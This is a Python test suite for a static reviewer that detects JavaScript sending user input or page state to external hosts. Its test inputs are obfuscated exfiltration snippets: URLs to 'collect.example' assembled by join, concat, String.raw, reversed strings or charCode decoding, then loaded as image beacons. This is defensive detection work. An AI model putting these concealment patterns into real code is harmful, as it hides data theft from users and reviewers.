"""The static layer on strings built from pieces (sandbox/review/pieces.py): a URL whose scheme
and host are never in one literal (an array joined, ``concat``, ``String.raw``, an array filled
with ``push``) is reported as the same URL written as one literal, and where the order of the
pieces cannot be known the value is still a URL, to a host chosen at run time."""

from __future__ import annotations

from flowui_sandbox.sandbox.review import review_static
from flowui_sandbox.sandbox.review.pieces import MAX_NAMES, MAX_TEXT, Fold, urls
from tests.work import calls_made

#: A block with a typed value (`text`, from input #q) and a state value (`s`, order.total).
HEAD = ("<input id=q><p data-bind='order.total'></p><script>\n"
        "document.getElementById('q').addEventListener('change', () => {\n"
        "  const text = document.getElementById('q').value;\n"
        "  const s = flowUi.get('order.total');\n")
TAIL = "\n});\n</script>"


def found(code: str, *, fields: tuple[str, ...] = ("order.total",), time_limit: float = 5.0) -> list[tuple[str, list[str], list[str]]]:
    """(rule, paths, hosts) of the block's findings, projection aside."""
    source = HEAD + code + TAIL
    return [(f.rule, f.paths, f.hosts) for f in review_static(source, file="b.html", fields=list(fields), time_limit=time_limit)
            if not f.rule.startswith("projection.")]


def rules(code: str) -> list[str]:
    return sorted(rule for rule, _, _ in found(code))


def test_an_array_joined_with_slashes_is_the_url_it_spells():
    # The hole: nothing in one literal says https://collect.example.
    assert found("const url = ['https:', '', 'collect.example', 'k', text].join('/'); new Image().src = url;") == [
        ("url.external", [], ["collect.example"]),
        ("exfil.input-to-url", ["input:#q"], ["collect.example"]),
    ]


def test_the_joined_url_is_reported_where_the_join_is():
    source = HEAD + "  new Image().src = ['https:', '', 'collect.example', text].join('/');" + TAIL
    external = [f for f in review_static(source, fields=["order.total"]) if f.rule == "url.external"]
    line = source.splitlines()[4]
    assert [(f.line, f.column) for f in external] == [(5, line.index("[") + 1)]


def test_an_array_through_a_const_is_joined_the_same():
    code = "const P = ['https:', '', 'collect.example', 'k']; new Image().src = P.join('/') + '/' + s;"
    assert ("exfil.state-to-url", ["order.total"], ["collect.example"]) in found(code)


def test_a_join_without_separator_puts_commas():
    code = "new Image().src = ['https://collect.example/?a=1', 'b=' + s].join();"
    assert ("exfil.state-to-url", ["order.total"], ["collect.example"]) in found(code)


def test_an_elision_is_an_empty_piece():
    code = "new Image().src = ['https:',, 'collect.example', s].join('/');"
    assert ("exfil.state-to-url", ["order.total"], ["collect.example"]) in found(code)


def test_concat_of_an_empty_string_assembles_the_host():
    code = "new Image().src = ''.concat('https:', '//', 'collect', '.example', '/?v=', s);"
    assert found(code) == [("exfil.state-to-url", ["order.total"], ["collect.example"]),
                           ("url.external", [], ["collect.example"])]


def test_a_scheme_alone_is_no_blocked_url_when_its_host_is_added():
    # 'https://' by itself has no host: it is neither refused by the policy nor a host to name.
    code = "new Image().src = 'https://'.concat('collect.example', '/?v=', s);"
    assert rules(code) == ["exfil.state-to-url", "url.external"]


def test_string_raw_is_folded_once():
    code = "new Image().src = String.raw`https:${'/'}/collect.example/?v=${s}`;"
    assert found(code) == [("exfil.state-to-url", ["order.total"], ["collect.example"]),
                           ("url.external", [], ["collect.example"])]


def test_string_raw_with_a_raw_array():
    code = "new Image().src = String.raw({raw: ['https:/', '/collect.example/?v=', '']}, '', s);"
    assert ("exfil.state-to-url", ["order.total"], ["collect.example"]) in found(code)


def test_array_from_and_spread_keep_the_order():
    assert ("exfil.state-to-url", ["order.total"], ["collect.example"]) in found(
        "new Image().src = Array.from(['https:', '', 'collect.example', s]).join('/');")
    assert ("exfil.state-to-url", ["order.total"], ["collect.example"]) in found(
        "const A = ['https:', '']; new Image().src = [...A, 'collect.example', s].join('/');")


def test_a_join_inside_a_template_or_a_concatenation():
    for code in ("new Image().src = `${['https:', '', 'collect.example'].join('/')}/?v=${s}`;",
                 "new Image().src = ['https:', '', 'collect.example'].join('/') + '/?v=' + s;"):
        assert found(code) == [("exfil.state-to-url", ["order.total"], ["collect.example"]),
                               ("url.external", [], ["collect.example"])], code


def test_literals_split_at_the_host_with_plus_name_the_host():
    code = "new Image().src = 'https://' + 'collect' + '.example/?v=' + s;"
    assert found(code) == [("exfil.state-to-url", ["order.total"], ["collect.example"]),
                           ("url.external", [], ["collect.example"])]


def test_push_and_unshift_statements_are_followed_in_order():
    code = ("const parts = ['collect.example']; parts.unshift('https:', ''); parts.push('k'); parts.push(s);"
            " new Image().src = parts.join('/');")
    assert ("exfil.state-to-url", ["order.total"], ["collect.example"]) in found(code)


def test_push_in_a_loop_leaves_the_host_unknown_and_the_flow_high():
    code = ("const parts = []; for (const p of ['https:', '', 'collect.example']) parts.push(p); parts.push(text);"
            " const url = parts.join('/'); new Image().src = url;")
    assert found(code) == [("exfil.input-to-url", ["input:#q"], [])]


def test_a_read_before_the_last_push_leaves_the_order_unknown():
    code = ("const parts = ['https:', '', 'collect.example']; const u = parts.join('/'); parts.push(s);"
            " new Image().src = u + '/' + parts[3];")
    assert found(code) == [("exfil.state-to-url", ["order.total"], [])]


def test_a_callback_given_the_array_leaves_the_order_unknown():
    # forEach's third parameter is the array itself: the callback may reorder it.
    code = ("const parts = ['https:', '', 'collect.example', s]; parts.forEach((p, i, all) => all.reverse());"
            " new Image().src = parts.join('/');")
    assert found(code) == [("exfil.state-to-url", ["order.total"], [])]


def test_a_host_chosen_at_run_time_is_an_unknown_destination():
    code = "const u = ['https:', '', location.hash.slice(1), text].join('/'); new Image().src = u;"
    assert found(code) == [("exfil.input-to-url", ["input:#q"], [])]


def test_pieces_reordered_by_map_or_reduce_are_still_a_url():
    for code in ("const u = ['https:', '', 'collect.example', text].map(String).join('/'); new Image().src = u;",
                 "const u = ['https:', '', 'collect.example', text].filter(Boolean).join('/'); new Image().src = u;",
                 "const u = ['https://', 'collect.example', '/?', text].reduce((a, b) => a + b); new Image().src = u;"):
        assert found(code) == [("exfil.input-to-url", ["input:#q"], [])], code


def test_a_scheme_named_by_a_runtime_piece_before_a_literal_host():
    code = "const u = [location.protocol, '', 'collect.example', text].join('/'); new Image().src = u;"
    assert ("exfil.input-to-url", ["input:#q"], ["collect.example"]) in found(code)


def test_a_reversed_literal_is_read_reversed():
    code = "new Image().src = 'elpmaxe.tcelloc//:sptth'.split('').reverse().join('') + '/?v=' + s;"
    assert ("exfil.state-to-url", ["order.total"], ["collect.example"]) in found(code)


def test_join_called_through_the_prototype():
    code = "new Image().src = Array.prototype.join.call(['https:', '', 'collect.example', s], '/');"
    assert ("exfil.state-to-url", ["order.total"], ["collect.example"]) in found(code)


def test_escapes_are_decoded_in_templates_and_strings():
    for code in ("new Image().src = `https:\\x2f\\x2fcollect.example/?v=${s}`;",
                 "new Image().src = 'https:\\u{2f}\\u{2f}collect.example/?v=' + s;"):
        assert found(code) == [("exfil.state-to-url", ["order.total"], ["collect.example"]),
                               ("url.external", [], ["collect.example"])], code


def test_a_reassigned_let_is_not_taken_for_its_first_value():
    code = "let h = 'ok.example'; [h] = [location.hash]; new Image().src = 'https://' + h + '/?' + text;"
    assert found(code) == [("exfil.input-to-url", ["input:#q"], [])]


def test_typed_text_joined_with_nothing_is_loaded_as_typed():
    # As `img.src = text`: the user's own URL (a preview); nothing of the block's leaves with it.
    assert found("new Image().src = [text].join('');") == []
    assert found("new Image().src = text.split(' ').join('+');") == []


def test_relative_pieces_go_to_the_host_page():
    assert found("new Image().src = ['', 'api', 'items', s].join('/');") == [("url.relative", ["order.total"], [])]


def test_pieces_that_load_nothing_are_quiet():
    for code in ("document.querySelector('p').textContent = ['Home', 'Shop', s].join(' › ');",
                 "document.querySelector('p').className = ['card', s ? 'on' : '', 'big'].join(' ').trim();",
                 "document.querySelector('p').setAttribute('aria-label', 'Total: '.concat(s));",
                 "document.querySelector('p').title = String.raw`Order ${s}`;",
                 "location.hash = ['#', s].join('');",
                 "new Image().src = ['data:image/svg+xml', encodeURIComponent('<svg>' + s + '</svg>')].join(',');",
                 "document.querySelector('p').dataset.mail = 'mailto:'.concat(s);"):
        assert found(code) == [], code


def test_a_url_joined_from_literals_for_open_url_is_a_literal_url():
    code = "document.body.onclick = () => flowUi.openUrl(['https:', '', 'help.example.com', 'sizes'].join('/'));"
    assert found(code, fields=()) == [("bridge.open-url", [], ["help.example.com"]),
                                      ("url.external", [], ["help.example.com"])]


def test_a_fixed_url_from_pieces_in_a_block_that_reads_nothing_is_only_external():
    source = "<script>new Image().src = ['https:', '', 'cdn.example', 'logo.png'].join('/');</script>"
    assert [(f.rule, f.hosts) for f in review_static(source)] == [("url.external", ["cdn.example"])]


def test_a_protocol_relative_css_url_in_a_literal_is_external():
    source = "<style id=s></style><script>document.getElementById('s').textContent = 'b{background:url(//cdn.example/a.png)}';</script>"
    assert [(f.rule, f.hosts) for f in review_static(source)] == [("url.external", ["cdn.example"])]


def test_a_host_cut_by_a_hole_is_unknown():
    assert urls(Fold(("https://cdn.", None, "/a.png"))) == (("https://", ""),)
    assert urls(Fold(("https://cdn.example/", None))) == (("https://cdn.example/", "cdn.example"),)
    assert urls(Fold(("https:", None))) == (("https://", ""),)


def test_a_name_defined_through_itself_ends():
    assert ("exfil.input-to-url", ["input:#q"], []) in found("const a = [a, 'https:'].join(''); new Image().src = a + text;")


def test_a_host_past_the_text_limit_is_unknown_and_the_flow_stays_high():
    padding = "'<p>" + "x" * (MAX_TEXT + 10) + "</p>'"
    code = f"document.body.innerHTML = [{padding}, '<img src=\"https:', '/', '/collect.example/?v=', s, '\">'].join('');"
    assert found(code) == [("exfil.state-to-url", ["order.total"], [])]


def _hostile(items: int) -> str:
    """An array of ``items`` pieces, joined, concatenated and spread, and a chain of ``items // 100`` ``+``."""
    listed = ", ".join(f"'p{i}'" for i in range(items))
    chain = " + ".join(["'a'"] * (items // 100))
    return (f"const big = [{listed}]; big.push('https:'); const u = big.join('/') + {chain} + s;"
            f" new Image().src = u; new Image().src = 'x'.repeat(9).split('').concat(big).join('');")


def test_hostile_sizes_stay_linear():
    # Twice the pieces, at most 2.4 times the calls (1.9 today; quadratic work would make it 4). Work is
    # counted, so the time limit is out of the way (counting every call slows a run several times).
    small, small_calls = calls_made(lambda: found(_hostile(4_000), time_limit=600))
    large, large_calls = calls_made(lambda: found(_hostile(8_000), time_limit=600))
    assert small == large and ("exfil.state-to-url", ["order.total"], []) in small
    assert large_calls < 2.4 * small_calls, (small_calls, large_calls)


def test_names_nested_past_the_limit_are_a_way_out_to_review_by_hand():
    # Each name defined through the next one: past MAX_NAMES the strings are left unknown, and a
    # block that reads data gets exfil.possible-flow rather than silence.
    chain = "".join(f"const a{i} = a{i - 1} + 'x';\n" for i in range(MAX_NAMES + 20, 0, -1))
    source = f"<script>const s = flowUi.get('order.total');\n{chain}const a0 = 'x';\ndocument.title = a{MAX_NAMES + 19};</script>"
    assert [f.rule for f in review_static(source, fields=["order.total"])] == ["exfil.possible-flow"]


def test_numbers_added_are_their_sum_and_a_callback_reads_consts_and_its_own_parameter():
    assert found("const n = 1 + 2; new Image().src = 'https://a' + n + '.example/?' + flowUi.get('order.total');")[0][2] \
        == ["a3.example"]  # not 'a', the literal's
    # The callback's parameter shadows a const of the same name; k is the const.
    code = ("const k = 3, c = 'zz'; const h = [107, 104, 121, 111].map(c => String.fromCharCode(c - k)).join('');"
            "new Image().src = 'https://' + h + '.example/?' + flowUi.get('order.total');")
    assert found(code)[0][2] == ["hevl.example"]


def test_a_callback_that_reads_what_is_unknown_leaves_the_host_unknown():
    for body in ("String.fromCharCode(c - Math.random())", "c + window.suffix", "c.toFixed(1)"):
        code = (f"const h = [104, 105].map((c, i) => {body}).join('');"
                "new Image().src = 'https://' + h + '.example/?' + flowUi.get('order.total');")
        flows = [f for f in found(code) if f[0] == "exfil.state-to-url"]
        assert flows and flows[0][2] == [], (body, flows)  # not '104', the run before the unknown
    # Elements whose type the fold does not keep (numbers through reverse, push, a spread array) are
    # not taken for text: JavaScript gives 105 + 1 = 106, not '1051'.
    for receiver in ("[104, 105].reverse()", "[...[104, 105]]", "(() => { const a = [104]; a.push(105); return a; })()"):
        code = (f"const h = {receiver}.map(c => c + 1).join('');"
                "new Image().src = 'https://x' + h + '.example/?' + flowUi.get('order.total');")
        flows = [f for f in found(code) if f[0] == "exfil.state-to-url"]
        assert flows and flows[0][2] in ([], ["x106105.example"]), (receiver, flows)
    code = ("const a = [104]; a.push(105); const h = a.map(c => c + 1).join('');"
            "new Image().src = 'https://x' + h + '.example/?' + flowUi.get('order.total');")
    assert [f[2] for f in found(code) if f[0] == "exfil.state-to-url"] == [[]]
    # A reduce: spelled when it ends in a string; a number, no initial value, four parameters: not.
    for spelled, host in (("[104, 105].reduce((a, c) => a + String.fromCharCode(c), '')", "xhi.example"),
                          ("[1, 2, 3].reduce((a, c) => a + c, 0)", None), ("[104, 105].reduce((a, c) => a + c)", None),
                          ("[104, 105].reduce((a, c, i, all) => a + c, '')", None),
                          # an array to start from, or as an element, is not its text: [104, 105] is '104,105'
                          ("[104, 105].reduce((a, c) => a.concat(c), [])", None), ("[[104], [105]].map(c => c + 1).join('')", None)):
        code = f"new Image().src = 'https://x' + {spelled} + '.example/?' + flowUi.get('order.total');"
        assert [f[2] for f in found(code) if f[0] == "exfil.state-to-url"] == [[host] if host else []], spelled
    # Promises, a destructured or defaulted parameter: not followed.
    for callback in ("async c => String.fromCharCode(c)", "async function (c) { return String.fromCharCode(c); }",
                     "([c]) => c", "(c = 1) => String.fromCharCode(c)"):
        code = (f"const h = [104, 105].map({callback}).join('');"
                "new Image().src = 'https://' + h + '.example/?' + flowUi.get('order.total');")
        flows = [f for f in found(code) if f[0] == "exfil.state-to-url"]
        assert flows and flows[0][2] == [], (callback, flows)


def test_a_host_a_value_continues_is_not_named_by_its_first_piece():
    for code in ("new Image().src = 'https://ev' + window.x + 'il.example/?' + flowUi.get('order.total');",
                 "new Image().src = `https://ev${window.x}il.example/?` + flowUi.get('order.total');",
                 "new Image().src = 'https://' + 'ev' + window.x + '.example/?' + flowUi.get('order.total');"):
        flows = [f for f in found(code) if f[0] == "exfil.state-to-url"]
        assert flows and flows[0][2] == [], (code, flows)
    # Whole where a delimiter or the value's end follows, or in a branch the fold does not know.
    for code, host in (("new Image().src = 'https://ev.example' + '/?' + flowUi.get('order.total');", "ev.example"),
                       ("new Image().src = (window.x ? 'https://a.example/' : 'https://b.example/') + flowUi.get('order.total');",
                        "a.example")):
        flows = [f for f in found(code) if f[0] == "exfil.state-to-url"]
        assert flows and host in flows[0][2], (code, flows)
